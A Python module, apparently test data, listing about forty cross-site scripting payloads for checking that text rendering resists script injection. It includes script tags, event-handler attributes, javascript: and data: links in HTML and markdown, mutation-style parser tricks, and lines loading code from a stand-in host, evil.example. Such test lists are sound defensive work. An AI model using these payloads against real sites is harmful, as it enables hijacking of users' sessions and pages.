"""Forty ways to slip a script into a text (PROMISES S-5), of our own choosing."""

PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    '"><img src=x onerror=alert(1)>', "<img src=x onerror=alert`1`>", "<img srcset='x' onerror=alert(1)>", "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='javascript:alert(1)'>",
    "<embed src='data:text/html,<script>alert(1)</script>'>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<a href='javascript:alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))", "[x](<javascript:alert(1)>)",
    "[x](https://a.example \"onmouseover=alert(1) '\")", "![x](x\" onerror=alert(1))", "![x](javascript:alert(1))", "<https://a.example/\"onclick=alert(1)>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<!--><script>alert(1)</script-->", "{{7*7}}{% debug %}",
    "`<script>alert(1)</script>`", "```\n</code></pre><script>alert(1)</script>\n```", "<style>@import'//evil.example';*{background:url(javascript:alert(1))}</style>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\u2028<script>alert(1)</script>\u202e", "<base href=//evil.example>",
]  # fmt: skip
